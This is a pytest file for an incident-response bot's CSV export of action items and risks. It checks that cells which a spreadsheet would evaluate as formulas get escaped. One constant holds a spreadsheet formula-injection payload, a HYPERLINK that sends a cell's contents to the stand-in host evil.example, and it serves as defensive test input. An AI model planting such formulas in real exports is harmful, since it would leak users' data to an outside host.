"""Action items and risks as tables: every row is there, and no cell is a formula."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from bot.incident.cells import guarded
from bot.incident.learning import ActionItem, Risk
from bot.incident.words import ItemKind, ItemState, Level, Treatment
from bot.store import Store
from bot.store.item_table import ITEM_COLUMNS, RISK_COLUMNS, items_csv, risks_csv
from tests.conftest import START, open_incident

HOSTILE = '=HYPERLINK("http://evil.example?x="&A1)'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "＝1"])
def test_what_a_spreadsheet_would_compute_stands_behind_an_apostrophe(text: str) -> None:
    assert guarded(text) == f"'{text}"


def test_what_is_plain_stays_as_it_is() -> None:
    assert [guarded(text) for text in ("", "a=b", "2026-12-01", "U0ALICE")] == ["", "a=b", "2026-12-01", "U0ALICE"]


async def test_every_item_and_risk_is_a_line_whatever_is_written_in_it(store: Store) -> None:
    async with store.unit() as unit:
        incident = await open_incident(unit)
        shared = {"incident": incident.number, "created_at": unit.now}
        late = unit.now - timedelta(days=1)
        unit.add(
            ActionItem(**shared, text=HOSTILE, kind=ItemKind.DETECT, due_at=late, owner="U0BOB"),
            ActionItem(**shared, text='two\nlines, "quoted"', kind=ItemKind.DETECT, due_at=late, state=ItemState.DONE),
            Risk(
                **shared,
                text="@x",
                likelihood=Level.LOW,
                impact=Level.HIGH,
                treatment=Treatment.AVOID,
                created_by="U0BOB",
            ),
        )
    async with store.read() as session:
        items = list(csv.DictReader(io.StringIO(await items_csv(session, START))))
        [risk] = csv.DictReader(io.StringIO(await risks_csv(session, START)))
    assert tuple(items[0]) == ITEM_COLUMNS and tuple(risk) == RISK_COLUMNS
    assert [row["overdue"] for row in items] == ["yes", "no"] and items[0]["due"] == "2026-03-01"
    assert items[0]["text"] == f"'{HOSTILE}" and items[1]["text"] == 'two\nlines, "quoted"' and risk["text"] == "'@x"
